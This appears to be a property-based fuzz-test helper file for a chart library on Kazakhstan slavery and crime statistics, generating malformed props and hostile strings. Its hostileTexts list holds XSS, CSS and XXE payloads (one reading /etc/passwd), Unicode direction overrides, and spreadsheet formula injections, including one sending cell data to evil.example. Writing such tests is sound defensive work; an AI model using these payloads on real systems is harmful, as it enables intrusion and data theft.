import fc from 'fast-check';
import { gsiRows, regionCodes } from '../../packages/core/src/dataset.js';

/** Generated cases per property: 1,000 in CI, more with `FUZZ_RUNS=<n>` (see scripts/robustness-long.ts). */
export const fuzzRuns = Math.max(1, Number(process.env.FUZZ_RUNS) || 1000);

/**
 * Generated cases per component that are also drawn in full (SVG included, 5–15 ms each in jsdom):
 * 1,000 in CI, more with `FUZZ_DRAW_RUNS=<n>`.
 */
export const drawRuns = Math.max(1, Number(process.env.FUZZ_DRAW_RUNS) || 1000);

/** The seed of the run, printed so that a failure can be replayed with `FUZZ_SEED=<n>`. */
export const fuzzSeed = Number(process.env.FUZZ_SEED) || Date.now() % 2 ** 31;

export const fuzzOptions = { numRuns: fuzzRuns, seed: fuzzSeed } as const;
export const drawOptions = { numRuns: drawRuns, seed: fuzzSeed } as const;

/**
 * Texts that would be dangerous if a chart ever wrote them as markup instead of text: HTML, script,
 * event handlers, `javascript:`/`data:` URLs, CSS escapes, Unicode direction overrides, spreadsheet
 * formulas, XML breakers.
 */
export const hostileTexts: readonly string[] = [
  '<script>window.__kztPwned = 1</script>',
  '<img src=x onerror="window.__kztPwned = 1">',
  '"><svg onload="window.__kztPwned = 1"><a href="javascript:alert(1)">x</a>',
  "' onmouseover='window.__kztPwned = 1' data-x='",
  'javascript:alert(document.domain)',
  'JaVaScRiPt:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '</style><script>window.__kztPwned = 1</script><style>',
  '}</style><style>*{display:none!important}</style>',
  'x{background:url("javascript:alert(1)")} \\3c script\\3e',
  '\u202Egnp.exe\u202C \u2066isolate\u2069 \u200F\u200E',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  ']]><!ENTITY x "y"><x/>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '&lt;b&gt;not bold&lt;/b&gt; &amp; &#60;i&#62;',
  '<!-- comment --> <![CDATA[x]]>',
  '<a href="https://evil.example" target="_top">link</a>',
  '<iframe srcdoc="<script>parent.__kztPwned=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '{title} {what} {count} {value}',
  '__proto__',
  'constructor',
  '',
  ' ',
  '\u0000\u0001\u001f',
  '👩🏽‍⚕️ ӘәҒғҚқҢңӨөҰұҮүҺһІі',
];

/** A text: hostile, generated (any code points), or very long. */
export const text: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...hostileTexts), fc.integer({ min: 50, max: 400 }))
      .map(([piece, times]) => `${piece} `.repeat(times)),
  },
);

/** Numbers a count or a size could be given as: NaN, ±Infinity, −0, negatives, huge, tiny and fractional. */
export const weirdNumber: fc.Arbitrary<number> = fc.oneof(
  { weight: 3, arbitrary: fc.integer({ min: 0, max: 1000 }) },
  { weight: 2, arbitrary: fc.double() },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      Number.NaN,
      Number.POSITIVE_INFINITY,
      Number.NEGATIVE_INFINITY,
      -0,
      -1,
      0.5,
      1e-300,
      1e15,
      Number.MAX_SAFE_INTEGER,
      1e308,
      Number.MAX_VALUE,
    ),
  },
);

/** What an untyped caller could pass anywhere: any JSON-like or odd value. */
export const junk: fc.Arbitrary<unknown> = fc.oneof(
  fc.anything({ maxDepth: 2, maxKeys: 4, withNullPrototype: true, withMap: true, withSet: true, withDate: true }),
  fc.constantFrom(null, undefined, true, false, 0, '', [], {}, Number.NaN, () => 1, Symbol('kzt'), 10n),
);

/**
 * A box size: NaN, ±Infinity, 0, negative, fractional or large. Kept between 10⁻³ and 10⁶ in size:
 * a box billions of pixels tall overflows the map projection (see the report of issue #9).
 */
const sizeNumber: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer({ min: -1000, max: 1_000_000 }),
  fc.double({ min: 0.001, max: 1000, noNaN: true }),
  fc.double({ min: -1000, max: -0.001, noNaN: true }),
  fc.constantFrom(Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY, 0, -0, 1280, '300', null),
);

/** A number, or occasionally something that is not one. */
export const numberish: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: weirdNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, undefined, '12', '', true, [], {}) },
);

/** A value of an enumeration: one of the valid ones, an unknown string, or anything. */
export function enumValue(valid: readonly string[]): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...valid) },
    { weight: 1, arbitrary: fc.constantFrom(...valid.map((value) => value.toUpperCase()), ` ${valid[0]}`) },
    { weight: 1, arbitrary: text },
    { weight: 1, arbitrary: junk },
  );
}

/** Props every chart takes, valid in type but with hostile, empty and very long texts. */
const typedCommonProps = fc.record(
  {
    locale: fc.constantFrom('ru', 'kk', 'en'),
    theme: fc.constantFrom('auto', 'light', 'dark'),
    title: text,
    subtitle: text,
    notes: fc.array(text, { maxLength: 5 }),
    headingLevel: fc.constantFrom(2, 3, 4, 5, 6),
    aspectRatio: fc.double({ min: 0.2, max: 5, noNaN: true }),
    height: fc.integer({ min: 1, max: 2000 }),
    actions: fc.subarray(['table', 'csv', 'png', 'svg']),
    animate: fc.constantFrom(false, 'auto', true),
    className: text,
  },
  { requiredKeys: [] },
);

/** Props every chart takes, each possibly missing, unknown or malformed. */
const wildCommonProps = fc.record(
  {
    locale: enumValue(['ru', 'kk', 'en']),
    theme: enumValue(['auto', 'light', 'dark']),
    title: text,
    subtitle: text,
    notes: fc.array(text, { maxLength: 5 }),
    headingLevel: fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(2, 3, 4, 5, 6) },
      { weight: 1, arbitrary: fc.oneof(fc.constantFrom(0, 1, 7, 2.5, -1, Number.NaN, '3', 'script'), junk) },
    ),
    aspectRatio: sizeNumber,
    height: sizeNumber,
    actions: fc.oneof(
      { weight: 3, arbitrary: fc.subarray(['table', 'csv', 'png', 'svg', 'pdf', '<b>', 'TABLE']) },
      { weight: 1, arbitrary: junk },
    ),
    animate: fc.constantFrom(false, 'auto', true),
    className: text,
  },
  { requiredKeys: [] },
);

export const commonProps = fc.oneof(
  { weight: 3, arbitrary: typedCommonProps },
  { weight: 1, arbitrary: wildCommonProps },
);

const isoLike = fc.oneof(
  fc.constantFrom(...gsiRows.map((row) => row.iso2)),
  fc.constantFrom('XX', 'kz', 'KAZ', 'K', '', 'ZZ', 'EU', 'UK', 'AA', 'QZ', 'KZ ', '__proto__'),
  fc.stringMatching(/^[A-Z]{2}$/),
  text,
);

const gsiRowish = fc.oneof(
  {
    weight: 8,
    arbitrary: fc.record(
      {
        iso2: isoLike,
        name: text,
        prevalencePer1000: numberish,
        estimatedPeople: fc.oneof(numberish, fc.constant(null)),
      },
      { requiredKeys: ['iso2', 'prevalencePer1000'] },
    ),
  },
  { weight: 1, arbitrary: junk },
);

const defaultCodes = ['KZ', 'KG', 'TJ', 'TM', 'UZ', 'RU', 'BY', 'AM', 'AZ', 'MD', 'NO', 'FI', 'NL', 'PT', 'DK'];
const count = fc.oneof(
  fc.integer({ min: 0, max: 1_000_000 }),
  fc.double({ min: 0, max: 1e12, noNaN: true }),
  fc.constantFrom(0, 0.5, 1e-300, Number.MAX_SAFE_INTEGER),
);

/** Well-typed SlaveryIndexBar props: bundled or generated rows with extreme but valid numbers. */
const typedSlaveryProps = fc.record(
  {
    countries: fc.subarray(defaultCodes, { minLength: 1 }),
    highlight: fc.oneof(fc.constantFrom(...defaultCodes), fc.subarray(defaultCodes, { maxLength: 3 })),
    showCorrection: fc.boolean(),
  },
  { requiredKeys: [] },
);
const generatedSlaveryData = fc
  .uniqueArray(fc.stringMatching(/^[A-Z]{2}$/), { minLength: 1, maxLength: 12 })
  .chain((codes) =>
    fc.tuple(
      ...codes.map((iso2) =>
        fc.record({
          iso2: fc.constant(iso2),
          name: text,
          prevalencePer1000: count,
          estimatedPeople: fc.oneof(count, fc.constant(null)),
          population: fc.oneof(count, fc.constant(null)),
        }),
      ),
    ),
  )
  .map((data) => ({ data }));

/** Data (and choices) for SlaveryIndexBar: bundled rows, duplicated, malformed or generated ones. */
const wildSlaveryProps = fc.record(
  {
    countries: fc.oneof({ weight: 4, arbitrary: fc.array(isoLike, { maxLength: 8 }) }, { weight: 1, arbitrary: junk }),
    highlight: fc.oneof(isoLike, fc.array(isoLike, { maxLength: 3 }), junk),
    data: fc.oneof(
      { weight: 2, arbitrary: fc.subarray([...gsiRows], { minLength: 1 }) },
      { weight: 2, arbitrary: fc.subarray([...gsiRows]).map((rows) => [...rows, ...rows.slice(0, 2)]) },
      { weight: 4, arbitrary: fc.array(gsiRowish, { maxLength: 12 }) },
      { weight: 1, arbitrary: junk },
    ),
    showCorrection: fc.oneof(fc.boolean(), junk),
  },
  { requiredKeys: [] },
);

export const slaveryProps: fc.Arbitrary<Record<string, unknown>> = fc.oneof(
  { weight: 2, arbitrary: typedSlaveryProps },
  { weight: 1, arbitrary: generatedSlaveryData },
  { weight: 3, arbitrary: wildSlaveryProps },
);

const yearRow = fc.oneof(
  {
    weight: 8,
    arbitrary: fc.record(
      {
        year: fc.oneof(
          { weight: 3, arbitrary: fc.integer({ min: 2015, max: 2030 }) },
          { weight: 1, arbitrary: numberish },
        ),
        total: fc.oneof(numberish, fc.constant(null)),
        art128: fc.oneof(numberish, fc.constant(null)),
        art135: fc.oneof(numberish, fc.constant(null)),
      },
      { requiredKeys: ['year'] },
    ),
  },
  { weight: 1, arbitrary: junk },
);

const typedCrimeProps = fc.record(
  {
    series: fc.subarray(['total', 'art128', 'art135'] as const, { minLength: 1 }),
    data: fc.uniqueArray(fc.integer({ min: 1990, max: 2040 }), { minLength: 1, maxLength: 12 }).chain((years) =>
      fc.tuple(
        ...years.map((year) =>
          fc.record({
            year: fc.constant(year),
            total: fc.oneof(count, fc.constant(null)),
            art128: fc.oneof(count, fc.constant(null)),
            art135: fc.oneof(count, fc.constant(null)),
          }),
        ),
      ),
    ),
  },
  { requiredKeys: [] },
);

/** Data and series for CrimeTrendLine: gaps, duplicated and unsorted years, malformed rows. */
const wildCrimeProps = fc.record(
  {
    series: fc.oneof(
      { weight: 4, arbitrary: fc.array(enumValue(['total', 'art128', 'art135']), { maxLength: 4 }) },
      { weight: 1, arbitrary: junk },
    ),
    data: fc.oneof({ weight: 6, arbitrary: fc.array(yearRow, { maxLength: 10 }) }, { weight: 1, arbitrary: junk }),
  },
  { requiredKeys: [] },
);

export const crimeProps: fc.Arbitrary<Record<string, unknown>> = fc.oneof(
  { weight: 1, arbitrary: typedCrimeProps },
  { weight: 1, arbitrary: wildCrimeProps },
);

/** Consistent victim counts (groups adding up to the total), so that many cases draw a chart. */
const consistentCounts = fc
  .tuple(
    fc.integer({ min: 0, max: 100_000 }),
    fc.integer({ min: 0, max: 100_000 }),
    fc.integer({ min: 0, max: 100_000 }),
  )
  .map(([women, men, foreigners]) => ({
    total: women + men,
    women,
    men,
    citizens: Math.max(0, women + men - foreigners),
    foreigners: Math.min(foreigners, women + men),
  }));

/** Data and breakdown for VictimGenderDonut. */
export const victimProps = fc.record(
  {
    breakdown: enumValue(['sex', 'citizenship']),
    data: fc.oneof(
      { weight: 3, arbitrary: consistentCounts },
      {
        weight: 3,
        arbitrary: fc.record(
          { total: numberish, women: numberish, men: numberish, citizens: numberish, foreigners: numberish },
          { requiredKeys: [] },
        ),
      },
      { weight: 1, arbitrary: junk },
    ),
  },
  { requiredKeys: [] },
);

const regionCode = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...regionCodes) },
  { weight: 1, arbitrary: fc.constantFrom('KZ-ALA', 'KZ-AST', 'KZ-99', 'kz-75', 'KZ-75 ', 'RU-MOW', '__proto__') },
  { weight: 1, arbitrary: text },
);

/** Values, total and highlight for RegionalShare: unknown and pre-2022 codes, bad counts, totals below the sum. */
export const regionalProps = fc.record(
  {
    values: fc.oneof(
      { weight: 5, arbitrary: fc.dictionary(regionCode, numberish, { maxKeys: 8 }) },
      {
        weight: 3,
        arbitrary: fc.dictionary(fc.constantFrom(...regionCodes), fc.integer({ min: 0, max: 50 }), { maxKeys: 20 }),
      },
      { weight: 1, arbitrary: junk },
    ),
    total: fc.oneof({ weight: 2, arbitrary: fc.integer({ min: 0, max: 2000 }) }, { weight: 2, arbitrary: numberish }),
    highlight: fc.oneof(regionCode, fc.array(regionCode, { maxLength: 4 }), junk),
    inset: fc.oneof(fc.boolean(), junk),
    remainderLabel: text,
  },
  { requiredKeys: [] },
);
